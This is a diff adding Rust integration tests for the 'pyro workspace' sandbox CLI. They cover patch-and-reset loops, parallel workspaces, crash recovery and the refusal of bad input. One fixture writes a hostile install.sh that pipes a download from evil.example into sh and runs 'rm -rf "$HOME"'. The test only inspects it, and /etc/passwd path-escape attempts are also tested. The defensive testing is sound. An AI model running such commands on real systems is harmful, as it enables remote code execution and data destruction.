@@ -1,0 +1,661 @@
+//! `pyro workspace` as an agent uses it, through the real binary and real
+//! guests: the repro-fix loop, parallel workspaces, inspecting untrusted
+//! files, and a table of bad input (each refused clearly, changing
+//! nothing). Workspace state goes to a scratch `XDG_DATA_HOME`; the image
+//! cache is the shared one.
+
+use serde_json::Value;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+struct Home(tempfile::TempDir);
+
+impl Home {
+    fn new() -> Home {
+        Home(tempfile::tempdir().unwrap())
+    }
+
+    fn pyro(&self, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_pyro"))
+            .args(args)
+            .env("XDG_DATA_HOME", self.0.path().join("data"))
+            .env_remove("PYRO_HOME")
+            .output()
+            .expect("run pyro")
+    }
+
+    /// Runs a command that must succeed; returns its stdout.
+    fn ok(&self, args: &[&str]) -> String {
+        let out = self.pyro(args);
+        assert!(
+            out.status.success(),
+            "pyro {args:?} failed ({:?}):\n{}",
+            out.status.code(),
+            text(&out.stderr)
+        );
+        text(&out.stdout)
+    }
+
+    /// Runs a `--json` command that must succeed.
+    fn json(&self, args: &[&str]) -> Value {
+        let mut all = args.to_vec();
+        all.push("--json");
+        serde_json::from_str(&self.ok(&all)).expect("one JSON document")
+    }
+
+    /// Runs a `--json` command that must fail with `code`; returns the
+    /// error's kind and message.
+    fn fails(&self, code: i32, args: &[&str]) -> (String, String) {
+        let mut all = args.to_vec();
+        // Before a `--`, which ends our options and starts the command.
+        let at = all.iter().position(|a| *a == "--").unwrap_or(all.len());
+        all.insert(at, "--json");
+        let out = self.pyro(&all);
+        assert_eq!(
+            out.status.code(),
+            Some(code),
+            "pyro {args:?}: {}",
+            text(&out.stderr)
+        );
+        let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+            panic!(
+                "pyro {args:?}: no error document ({e}): {}",
+                text(&out.stderr)
+            )
+        });
+        assert_eq!(doc["ok"], false);
+        (
+            doc["error"]["kind"].as_str().unwrap().to_string(),
+            doc["error"]["message"].as_str().unwrap().to_string(),
+        )
+    }
+
+    fn create(&self, extra: &[&str]) -> String {
+        let mut args = vec!["workspace", "create"];
+        args.extend_from_slice(extra);
+        let id = self.ok(&[&args[..], &["--id-only"]].concat());
+        id.trim().to_string()
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.0.path().join(name)
+    }
+}
+
+impl Drop for Home {
+    fn drop(&mut self) {
+        // Stop whatever a failed test left running.
+        if let Ok(list) =
+            serde_json::from_slice::<Value>(&self.pyro(&["workspace", "list", "--json"]).stdout)
+        {
+            for w in list.as_array().into_iter().flatten() {
+                let _ = self.pyro(&[
+                    "workspace",
+                    "delete",
+                    w["workspace_id"].as_str().unwrap_or(""),
+                ]);
+            }
+        }
+    }
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// A seed tree with a failing check: `check.sh` passes once
+/// `message.txt` says "fixed".
+fn repro_seed(dir: &Path) {
+    std::fs::create_dir_all(dir.join("docs/empty")).unwrap();
+    std::fs::write(dir.join("message.txt"), "broken\n").unwrap();
+    std::fs::write(dir.join("docs/notes.md"), "# notes\nline two\n").unwrap();
+    std::fs::write(
+        dir.join("check.sh"),
+        "#!/bin/sh\ngrep -qx fixed message.txt && echo ok\n",
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(dir.join("check.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+const FIX: &str = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
+
+#[test]
+fn repro_fix_loop() {
+    let home = Home::new();
+    let seed = home.path("seed");
+    repro_seed(&seed);
+    let id = home.create(&["--seed-path", seed.to_str().unwrap(), "--name", "repro"]);
+
+    // Read the file; the check fails.
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &id,
+            "message.txt",
+            "--content-only"
+        ]),
+        "broken\n"
+    );
+    let out = home.pyro(&["workspace", "exec", &id, "--", "./check.sh"]);
+    assert_eq!(out.status.code(), Some(1));
+
+    // Apply the fix; the check passes.
+    let patch = home.path("fix.patch");
+    std::fs::write(&patch, FIX).unwrap();
+    let applied = home.json(&[
+        "workspace",
+        "patch",
+        "apply",
+        &id,
+        "--patch-file",
+        patch.to_str().unwrap(),
+    ]);
+    assert_eq!(applied["changed"], true);
+    assert_eq!(applied["summary"]["modified"], 1);
+    let out = home.pyro(&["workspace", "exec", &id, "--", "./check.sh"]);
+    assert_eq!(
+        (out.status.code(), text(&out.stdout)),
+        (Some(0), "ok\n".to_string())
+    );
+
+    // The diff shows exactly that, and `git apply` takes it on a copy of
+    // the baseline, giving what the workspace has.
+    let diff = home.json(&["workspace", "diff", &id]);
+    assert_eq!(diff["summary"]["total"], 1, "{diff}");
+    assert_eq!(diff["entries"][0]["path"], "message.txt");
+    assert_eq!(diff["entries"][0]["status"], "modified");
+    let copy = home.path("baseline-copy");
+    assert!(Command::new("cp")
+        .arg("-a")
+        .arg(&seed)
+        .arg(&copy)
+        .status()
+        .unwrap()
+        .success());
+    let patch_file = home.path("diff.patch");
+    std::fs::write(&patch_file, diff["patch"].as_str().unwrap()).unwrap();
+    let applied = Command::new("git")
+        .args(["apply", "--unsafe-paths"])
+        .arg(&patch_file)
+        .current_dir(&copy)
+        .output()
+        .expect("git");
+    assert!(
+        applied.status.success(),
+        "git apply: {}",
+        text(&applied.stderr)
+    );
+    assert_eq!(
+        std::fs::read_to_string(copy.join("message.txt")).unwrap(),
+        "fixed\n"
+    );
+
+    // Export the fixed file.
+    let exported = home.path("message.out");
+    home.ok(&[
+        "workspace",
+        "export",
+        &id,
+        "message.txt",
+        "--output",
+        exported.to_str().unwrap(),
+    ]);
+    assert_eq!(std::fs::read_to_string(&exported).unwrap(), "fixed\n");
+
+    // History has both checks, with their output.
+    let logs = home.json(&["workspace", "logs", &id]);
+    assert_eq!(logs.as_array().unwrap().len(), 2);
+    assert_eq!(logs[1]["stdout"], "ok\n");
+
+    // Reset: back to the baseline exactly, diff empty.
+    home.ok(&["workspace", "reset", &id]);
+    assert_eq!(
+        home.ok(&["workspace", "diff", &id]),
+        "No workspace changes.\n"
+    );
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &id,
+            "message.txt",
+            "--content-only"
+        ]),
+        "broken\n"
+    );
+    let listed = home.json(&["workspace", "file", "list", &id, "docs", "--recursive"]);
+    let paths: Vec<&str> = listed["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(paths, ["/workspace/docs/empty", "/workspace/docs/notes.md"]);
+
+    home.ok(&["workspace", "delete", &id]);
+    assert_eq!(
+        home.json(&["workspace", "list"]).as_array().unwrap().len(),
+        0
+    );
+}
+
+#[test]
+fn parallel_workspaces_keep_their_own_content_and_list_by_activity() {
+    let home = Home::new();
+    let seed = home.path("seed");
+    repro_seed(&seed);
+    // The same seed as a .tar.gz this time.
+    let tgz = home.path("seed.tar.gz");
+    let packed = Command::new("tar")
+        .arg("-czf")
+        .arg(&tgz)
+        .arg("-C")
+        .arg(&seed)
+        .arg(".")
+        .status()
+        .unwrap();
+    assert!(packed.success());
+    let (a, b) = std::thread::scope(|s| {
+        let a =
+            s.spawn(|| home.create(&["--seed-path", tgz.to_str().unwrap(), "--label", "team=red"]));
+        let b = s
+            .spawn(|| home.create(&["--seed-path", tgz.to_str().unwrap(), "--label", "team=blue"]));
+        (a.join().unwrap(), b.join().unwrap())
+    });
+    home.ok(&[
+        "workspace",
+        "file",
+        "write",
+        &a,
+        "message.txt",
+        "--text",
+        "fixed\n",
+    ]);
+    home.ok(&[
+        "workspace",
+        "file",
+        "write",
+        &b,
+        "notes/b.txt",
+        "--text",
+        "only in b\n",
+    ]);
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &a,
+            "message.txt",
+            "--content-only"
+        ]),
+        "fixed\n"
+    );
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &b,
+            "message.txt",
+            "--content-only"
+        ]),
+        "broken\n"
+    );
+    let (kind, _) = home.fails(1, &["workspace", "file", "read", &a, "notes/b.txt"]);
+    assert_eq!(kind, "not_found");
+    assert_eq!(
+        home.json(&["workspace", "diff", &a])["summary"]["modified"],
+        1
+    );
+    assert_eq!(home.json(&["workspace", "diff", &b])["summary"]["added"], 1);
+
+    // Most recent activity first: touch a, then b, then a.
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    home.ok(&["workspace", "exec", &b, "--", "true"]);
+    let list = home.json(&["workspace", "list"]);
+    let ids: Vec<&str> = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|w| w["workspace_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, [b.as_str(), a.as_str()]);
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    home.ok(&["workspace", "update", &a, "--label", "stage=review"]);
+    let list = home.json(&["workspace", "list"]);
+    assert_eq!(list[0]["workspace_id"], a.as_str());
+    assert_eq!(list[0]["labels"]["team"], "red");
+    assert_eq!(list[0]["labels"]["stage"], "review");
+    assert_eq!(list[1]["labels"]["team"], "blue");
+}
+
+#[test]
+fn untrusted_files_are_inspected_without_running_them() {
+    let home = Home::new();
+    let seed = home.path("seed");
+    std::fs::create_dir_all(&seed).unwrap();
+    std::fs::write(
+        seed.join("install.sh"),
+        "#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf \"$HOME\"\n",
+    )
+    .unwrap();
+    let id = home.create(&["--seed-path", seed.to_str().unwrap()]);
+    let listed = home.json(&["workspace", "file", "list", &id]);
+    assert_eq!(listed["entries"][0]["path"], "/workspace/install.sh");
+    let content = home.ok(&[
+        "workspace",
+        "file",
+        "read",
+        &id,
+        "install.sh",
+        "--content-only",
+    ]);
+    assert!(content.contains("evil.example"));
+    let script =
+        "grep -n -e curl -e 'rm -rf' install.sh > report.txt; wc -l < install.sh >> report.txt";
+    home.ok(&["workspace", "exec", &id, "--", "sh", "-c", script]);
+    let report = home.path("report.txt");
+    home.ok(&[
+        "workspace",
+        "export",
+        &id,
+        "report.txt",
+        "--output",
+        report.to_str().unwrap(),
+    ]);
+    assert_eq!(
+        std::fs::read_to_string(&report).unwrap(),
+        "2:curl -s http://evil.example/x | sh\n3:rm -rf \"$HOME\"\n3\n"
+    );
+    // The script never ran: its target is untouched (root's home exists).
+    let out = home.ok(&["workspace", "exec", &id, "--", "ls", "-d", "/root"]);
+    assert_eq!(out, "/root\n");
+}
+
+#[test]
+fn bad_input_is_refused_clearly_and_changes_nothing() {
+    let home = Home::new();
+    let seed = home.path("seed");
+    repro_seed(&seed);
+
+    // Creation: bad names, labels and seeds leave nothing behind.
+    assert_eq!(
+        home.fails(2, &["workspace", "create", "--name", "bad name"])
+            .0,
+        "invalid_argument"
+    );
+    assert_eq!(
+        home.fails(2, &["workspace", "create", "--label", "bad key=1"])
+            .0,
+        "invalid_argument"
+    );
+    let (kind, msg) = home.fails(2, &["workspace", "create", "--seed-path", "/no/such/seed"]);
+    assert!(
+        kind == "invalid_argument" && msg.contains("/no/such/seed"),
+        "{msg}"
+    );
+    assert_eq!(
+        home.json(&["workspace", "list"]).as_array().unwrap().len(),
+        0
+    );
+
+    let id = home.create(&["--seed-path", seed.to_str().unwrap(), "--name", "table"]);
+    assert_eq!(
+        home.fails(1, &["workspace", "status", "nope123"]).0,
+        "not_found"
+    );
+
+    // Paths that leave /workspace.
+    home.ok(&[
+        "workspace",
+        "exec",
+        &id,
+        "--",
+        "ln",
+        "-s",
+        "/etc",
+        "etc-link",
+    ]);
+    for path in ["../etc/passwd", "/etc/passwd", "etc-link/passwd"] {
+        let (kind, msg) = home.fails(1, &["workspace", "file", "read", &id, path]);
+        assert_eq!(kind, "invalid_path", "{path}: {msg}");
+        let (kind, _) = home.fails(1, &["workspace", "file", "write", &id, path, "--text", "x"]);
+        assert_eq!(kind, "invalid_path", "{path}");
+    }
+    let (kind, _) = home.fails(
+        1,
+        &[
+            "workspace",
+            "export",
+            &id,
+            "/etc/passwd",
+            "--output",
+            home.path("x").to_str().unwrap(),
+        ],
+    );
+    assert_eq!(kind, "invalid_path");
+
+    // An oversized write is refused before anything is sent.
+    let big = home.path("big.txt");
+    std::fs::write(&big, vec![b'a'; (1 << 20) + 1]).unwrap();
+    assert_eq!(
+        home.fails(
+            2,
+            &[
+                "workspace",
+                "file",
+                "write",
+                &id,
+                "big.txt",
+                "--text-file",
+                big.to_str().unwrap()
+            ]
+        )
+        .0,
+        "invalid_argument"
+    );
+
+    // Malformed and non-applying patches change nothing, and say where.
+    let before = home.json(&["workspace", "diff", &id])["summary"].clone();
+    let (kind, _) = home.fails(
+        1,
+        &[
+            "workspace",
+            "patch",
+            "apply",
+            &id,
+            "--patch",
+            "this is not a patch\n",
+        ],
+    );
+    assert_eq!(kind, "invalid_patch");
+    let half = format!(
+        "{FIX}--- a/docs/notes.md\n+++ b/docs/notes.md\n@@ -1,2 +1,2 @@\n # notes\n-line 2\n+line three\n"
+    );
+    let (kind, msg) = home.fails(1, &["workspace", "patch", "apply", &id, "--patch", &half]);
+    assert_eq!(kind, "patch_failed", "{msg}");
+    assert!(
+        msg.contains("docs/notes.md") && msg.contains("hunk"),
+        "{msg}"
+    );
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &id,
+            "message.txt",
+            "--content-only"
+        ]),
+        "broken\n"
+    );
+    assert_eq!(home.json(&["workspace", "diff", &id])["summary"], before);
+
+    // Snapshots: reserved and unknown names.
+    assert_eq!(
+        home.fails(2, &["workspace", "snapshot", "create", &id, "baseline"])
+            .0,
+        "invalid_argument"
+    );
+    assert_eq!(
+        home.fails(1, &["workspace", "reset", &id, "--snapshot", "never-made"])
+            .0,
+        "not_found"
+    );
+
+    // Two execs at once on one workspace both run, and both are recorded.
+    std::thread::scope(|s| {
+        let one = s.spawn(|| {
+            home.pyro(&[
+                "workspace",
+                "exec",
+                &id,
+                "--",
+                "sh",
+                "-c",
+                "sleep 2; echo one",
+            ])
+        });
+        let two = s.spawn(|| {
+            home.pyro(&[
+                "workspace",
+                "exec",
+                &id,
+                "--",
+                "sh",
+                "-c",
+                "sleep 2; echo two",
+            ])
+        });
+        assert_eq!(text(&one.join().unwrap().stdout), "one\n");
+        assert_eq!(text(&two.join().unwrap().stdout), "two\n");
+    });
+    let logs = home.json(&["workspace", "logs", &id]);
+    let seqs: Vec<u64> = logs
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["sequence"].as_u64().unwrap())
+        .collect();
+    assert_eq!(seqs, [1, 2, 3]);
+
+    // A VMM killed with SIGKILL: the workspace shows stopped, with why;
+    // start brings it back with /workspace intact.
+    home.ok(&[
+        "workspace",
+        "file",
+        "write",
+        &id,
+        "keep.txt",
+        "--text",
+        "survives\n",
+    ]);
+    let vm_dir = home.path("data/pyro/workspaces").join(&id).join("vm");
+    let spec = std::fs::read_to_string(vm_dir.join("vmm.json")).unwrap();
+    let pid = Command::new("pgrep")
+        .args([
+            "-f",
+            &format!("__vmm {}", vm_dir.join("vmm.json").display()),
+        ])
+        .output()
+        .unwrap();
+    let pid = text(&pid.stdout).trim().to_string();
+    assert!(!pid.is_empty() && !spec.is_empty(), "no VMM process found");
+    assert!(Command::new("kill")
+        .args(["-9", &pid])
+        .status()
+        .unwrap()
+        .success());
+    std::thread::sleep(std::time::Duration::from_millis(500));
+    let status = home.json(&["workspace", "status", &id]);
+    assert_eq!(status["state"], "stopped");
+    assert!(
+        status["last_error"].as_str().unwrap().contains("vmm_died"),
+        "{status}"
+    );
+    let (kind, msg) = home.fails(1, &["workspace", "exec", &id, "--", "true"]);
+    assert!(
+        kind == "conflict" && msg.contains("workspace start"),
+        "{msg}"
+    );
+    home.ok(&["workspace", "start", &id]);
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &id,
+            "keep.txt",
+            "--content-only"
+        ]),
+        "survives\n"
+    );
+}
+
+#[test]
+fn a_full_workspace_disk_is_a_clear_error_and_loses_nothing() {
+    let home = Home::new();
+    let seed = home.path("seed");
+    std::fs::create_dir_all(&seed).unwrap();
+    // 40 MiB that do not compress or sparsify, on a 64 MiB disk.
+    let mut state = 0x9E37_79B9_7F4A_7C15u64;
+    let noise: Vec<u8> = (0..40 << 20)
+        .map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            state as u8
+        })
+        .collect();
+    std::fs::write(seed.join("big.bin"), &noise).unwrap();
+    std::fs::write(seed.join("keep.txt"), "precious\n").unwrap();
+    let id = home.create(&["--seed-path", seed.to_str().unwrap(), "--disk-mib", "64"]);
+    // Fill what is left.
+    home.pyro(&[
+        "workspace",
+        "exec",
+        &id,
+        "--timeout-seconds",
+        "300",
+        "--",
+        "sh",
+        "-c",
+        "cat big.bin > fill.bin",
+    ]);
+    let text_file = home.path("update.txt");
+    std::fs::write(&text_file, "x".repeat(900_000)).unwrap();
+    let (kind, msg) = home.fails(
+        1,
+        &[
+            "workspace",
+            "file",
+            "write",
+            &id,
+            "keep.txt",
+            "--text-file",
+            text_file.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(kind, "no_space", "{msg}");
+    assert_eq!(
+        home.ok(&[
+            "workspace",
+            "file",
+            "read",
+            &id,
+            "keep.txt",
+            "--content-only"
+        ]),
+        "precious\n"
+    );
+    let listed = home.ok(&["workspace", "exec", &id, "--", "ls", "-a"]);
+    assert!(
+        !listed.contains("pyro-tmp"),
+        "a temporary file was left: {listed}"
+    );
+}
